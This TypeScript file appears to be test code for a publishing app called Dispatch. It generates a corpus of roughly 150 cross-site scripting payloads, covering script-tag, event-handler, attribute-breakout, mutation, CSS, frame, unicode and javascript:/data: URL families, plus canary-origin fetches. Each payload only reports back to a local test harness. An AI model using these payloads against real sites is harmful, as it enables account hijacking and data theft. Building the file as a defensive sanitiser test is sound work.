// The hostile-content corpus: cross-site scripting vectors a reporter, a guest byline, a
// pasted caption or a stranger's sign-in attempt could carry into Dispatch. Every vector that
// ran would say so: it calls `__xss(id)` (a binding the browser tests expose), opens a dialog
// (`alert(id)`), or asks for a URL on the canary origin (a local HTTP server the tests watch).
// Each is at most 120 characters, the shortest free-text limit (a byline name, a job title),
// so it reaches every field whole.

export type VectorKind = "markup" | "url";

export interface XssVector {
  /** 1-based, unique: what `__xss(id)` reports and the canary path names. */
  id: number;
  kind: VectorKind;
  family: string;
  text: string;
}

/** `{n}` stands for the vector's id, `{c}` for the canary origin, `{h}` for its host:port. */
type Template = string | ((tokens: { n: number; c: string; h: string }) => string);

const FAMILIES: Record<string, { kind: VectorKind; templates: Template[] }> = {
  script: {
    kind: "markup",
    templates: [
      "<script>__xss({n})</script>",
      "<ScRiPt>__xss({n})</sCrIpT>",
      "<script src={c}/{n}.js></script>",
      "<script>alert({n})</script>",
      '"><script>__xss({n})</script>',
      "'><script>__xss({n})</script>",
      "</title><script>__xss({n})</script>",
      "</textarea><script>__xss({n})</script>",
      "<script/x>__xss({n})</script>",
      "<<script>script>__xss({n})<</script>/script>",
      "<script type=module>__xss({n})</script>",
      "<script>fetch('{c}/{n}')</script>",
    ],
  },
  // A headline or name that closes the JSON-LD block and opens a script of its own.
  jsonld: {
    kind: "markup",
    templates: [
      "</script><script>__xss({n})</script>",
      "</SCRIPT ><script>__xss({n})</script>",
      "<!--<script></script><script>__xss({n})</script>",
      '"}]}</script><script>__xss({n})</script>',
      "\u2028\u2029</script><script>__xss({n})</script>",
      "<\\/script><script>__xss({n})<\\/script>",
    ],
  },
  handler: {
    kind: "markup",
    templates: [
      "<img src=x onerror=__xss({n})>",
      '<img src="x" onerror="__xss({n})">',
      "<img/src=x/onerror=__xss({n})>",
      "<svg onload=__xss({n})>",
      "<svg/onload=__xss({n})>",
      "<body onload=__xss({n})>",
      "<iframe onload=__xss({n})></iframe>",
      "<input autofocus onfocus=__xss({n})>",
      "<details open ontoggle=__xss({n})>",
      "<video><source onerror=__xss({n})></video>",
      "<audio src=x onerror=__xss({n})>",
      "<marquee onstart=__xss({n})>x</marquee>",
      "<select autofocus onfocus=__xss({n})></select>",
      "<textarea autofocus onfocus=__xss({n})></textarea>",
      "<object data=x onerror=__xss({n})></object>",
      "<img src=x onerror=&#95;&#95;xss({n})>",
      "<img src=x onerror=\\u005f_xss({n})>",
      "<img src=x:alert({n}) onerror=eval(src)>",
      "<img src onerror=window['__x'+'ss']({n})>",
      "<img src=x onerror=top['al'+'ert']({n})>",
      "<body onpageshow=__xss({n})>",
      "<style onload=__xss({n})></style>",
      "<div style=animation-name:x onanimationstart=__xss({n})>",
      "<a onmouseover=__xss({n}) style=position:fixed;inset:0>x</a>",
    ],
  },
  attribute: {
    kind: "markup",
    templates: [
      '" onmouseover="__xss({n})',
      "' onfocus='__xss({n})' autofocus='",
      '" autofocus onfocus="__xss({n})',
      '"><img src=x onerror=__xss({n})>',
      "'><img src=x onerror=__xss({n})>",
      "`><img src=x onerror=__xss({n})>",
      '" style="background:url({c}/{n})',
      "&quot; onerror=&quot;__xss({n})",
      "&#34;><img src=x onerror=__xss({n})>",
      '"/><svg onload=__xss({n})>',
      '"><a href="javascript:__xss({n})">x</a>',
      'x" onerror=__xss({n}) y="',
    ],
  },
  svgMathml: {
    kind: "markup",
    templates: [
      "<svg><script>__xss({n})</script></svg>",
      "<svg><animate onbegin=__xss({n}) attributeName=x dur=1s>",
      '<svg><a xlink:href="javascript:__xss({n})"><text>x</text></a></svg>',
      "<svg><foreignObject><img src=x onerror=__xss({n})></foreignObject></svg>",
      "<svg><set attributeName=onload to=__xss({n})>",
      "<svg><style>@import'{c}/{n}'</style></svg>",
      "<svg><image href={c}/{n} /></svg>",
      "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>",
      '<math href="javascript:__xss({n})">x</math>',
      "<math><maction actiontype=statusline xlink:href=javascript:__xss({n})>x",
    ],
  },
  // Markup that changes meaning when a browser parses it again (mutation XSS).
  mutation: {
    kind: "markup",
    templates: [
      '<noscript><p title="</noscript><img src=x onerror=__xss({n})>">',
      "<template><img src=x onerror=__xss({n})></template>",
      "<style><img src=x onerror=__xss({n})></style>",
      "<xmp><img src=x onerror=__xss({n})></xmp>",
      '<noembed><img title="</noembed><img src=x onerror=__xss({n})>">',
      '<iframe><img title="</iframe><img src=x onerror=__xss({n})>"></iframe>',
      '<textarea><img title="</textarea><img src=x onerror=__xss({n})>">',
      '<title><img title="</title><img src=x onerror=__xss({n})>">',
      "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss({n})>",
      '<svg></p><style><a id="</style><img src=x onerror=__xss({n})>">',
      "<!--><img src=x onerror=__xss({n})>-->",
      "<![CDATA[><img src=x onerror=__xss({n})>]]>",
      "<select><template><img src=x onerror=__xss({n})></template></select>",
      "<table><td><img src=x onerror=__xss({n})></td></table>",
      "<p><svg><style><img src=x onerror=__xss({n})></style></svg>",
      "<listing>&lt;img src=x onerror=__xss({n})&gt;</listing>",
    ],
  },
  css: {
    kind: "markup",
    templates: [
      '<div style="background:url(javascript:__xss({n}))">x</div>',
      '<div style="width:expression(__xss({n}))">x</div>',
      "<style>*{background:url({c}/{n})}</style>",
      "<style>@import '{c}/{n}';</style>",
      "<link rel=stylesheet href={c}/{n}>",
      '<div style="behavior:url({c}/{n})">x</div>',
      "</style><script>__xss({n})</script>",
      "<style>body{background:url('javascript:__xss({n})')}</style>",
    ],
  },
  frame: {
    kind: "markup",
    templates: [
      '<iframe srcdoc="<script>parent.__xss({n})</script>"></iframe>',
      "<iframe srcdoc='&lt;img src=x onerror=parent.__xss({n})&gt;'></iframe>",
      '<iframe src="javascript:parent.__xss({n})"></iframe>',
      "<iframe src={c}/{n}></iframe>",
      "<embed src={c}/{n}>",
      '<object data="javascript:__xss({n})"></object>',
      "<frameset onload=__xss({n})>",
    ],
  },
  // Markup that leaves for another address or page without running a script.
  navigation: {
    kind: "markup",
    templates: [
      '<meta http-equiv=refresh content="0;url={c}/{n}">',
      '<meta http-equiv=refresh content="0;url=javascript:__xss({n})">',
      "<base href={c}/{n}/>",
      "<form action={c}/{n}><button>x</button></form>",
      "<button formaction=javascript:__xss({n})>x</button>",
      '<meta http-equiv="Content-Security-Policy" content="script-src *">',
      "<link rel=prefetch href={c}/{n}>",
      '<img srcset="{c}/{n} 1x">',
      "<img src={c}/{n}>",
      "<input type=image src={c}/{n}>",
    ],
  },
  unicode: {
    kind: "markup",
    templates: [
      "\u202Egnp.exe<script>__xss({n})</script>",
      "\uFF1Cscript\uFF1E__xss({n})\uFF1C/script\uFF1E",
      "\uFEFF<script>__xss({n})</script>",
      "%3Cscript%3E__xss({n})%3C/script%3E",
      "&lt;script&gt;__xss({n})&lt;/script&gt;",
      "\\u003cscript\\u003e__xss({n})\\u003c/script\\u003e",
      "+ADw-script+AD4-__xss({n})+ADw-/script+AD4-",
      "\u200B<\u200Bscript>__xss({n})</script>",
    ],
  },
  // What a template engine, String.replace or a framework's interpolation would act on.
  template: {
    kind: "markup",
    templates: [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the vector is a literal "${…}"
      "${__xss({n})}",
      "{{constructor.constructor('__xss({n})')()}}",
      "$&<img src=x onerror=__xss({n})>",
      "$'<script>__xss({n})</script>$`",
      "$1$2<svg onload=__xss({n})>",
      "#{__xss({n})}",
      "<%= __xss({n}) %>",
      "`;__xss({n});`",
    ],
  },
  // Dispatch's own inline markup (**bold**, *italic*, [label](url)) wrapped around markup.
  inline: {
    kind: "markup",
    templates: [
      "[<img src=x onerror=__xss({n})>](https://links.example/a)",
      '[x](https://links.example/"onmouseover="__xss({n}))',
      "**<script>__xss({n})</script>**",
      "*<svg onload=__xss({n})>*",
      "[x](https://links.example/)<img src=x onerror=__xss({n})>",
      "[x](javascript:__xss({n}))",
      '[x](mailto:a@b.example"onmouseover="__xss({n}))',
      "\\<script>__xss({n})</script>",
    ],
  },
  url: {
    kind: "url",
    templates: [
      "javascript:__xss({n})",
      "JaVaScRiPt:__xss({n})",
      " javascript:__xss({n})",
      "\tjavascript:__xss({n})",
      "java\tscript:__xss({n})",
      "java\nscript:__xss({n})",
      "\u0001javascript:__xss({n})",
      "javascript&colon;__xss({n})",
      "&#106;avascript:__xss({n})",
      "&#x6A;avascript:__xss({n})",
      "%6Aavascript:__xss({n})",
      "javascript://%0a__xss({n})",
      "javascript:/*https://x*/__xss({n})",
      "data:text/html,<script>__xss({n})</script>",
      ({ n }) =>
        `data:text/html;base64,${Buffer.from(`<script>__xss(${n})</script>`).toString("base64")}`,
      "data:image/svg+xml,<svg onload=__xss({n})>",
      "vbscript:msgbox({n})",
      "VBScript:msgbox({n})",
      'https://images.example/{n}.jpg" onerror="__xss({n})',
      "https://images.example/{n}.jpg'onerror='__xss({n})",
      'https://links.example/#"><img src=x onerror=__xss({n})>',
      "https://links.example/?q=<script>__xss({n})</script>",
      "https://links.example/{n}\u2028<script>__xss({n})</script>",
      "//{h}/{n}",
      "/\\{h}/{n}",
      "https:{h}/{n}",
      "{c}/{n}",
      '/media/x.jpg" onerror="__xss({n})',
      'https://www.youtube.com/embed/"><script>__xss({n})</script>',
      'https://www.youtube.com/watch?v=abcdefghijk&x="><svg onload=__xss({n})>',
      "mailto:x@y.example?body=<script>__xss({n})</script>",
      'mailto:"onmouseover="__xss({n})"@y.example',
    ],
  },
};

/** The corpus, ids assigned in order; `canary` is the origin the tests watch for requests. */
export function xssCorpus(canary: string): XssVector[] {
  const host = new URL(canary).host;
  const vectors: XssVector[] = [];
  for (const [family, { kind, templates }] of Object.entries(FAMILIES)) {
    for (const template of templates) {
      const id = vectors.length + 1;
      const text =
        typeof template === "function"
          ? template({ n: id, c: canary, h: host })
          : template
              .replaceAll("{n}", String(id))
              .replaceAll("{c}", canary)
              .replaceAll("{h}", host);
      vectors.push({ id, kind, family, text });
    }
  }
  return vectors;
}
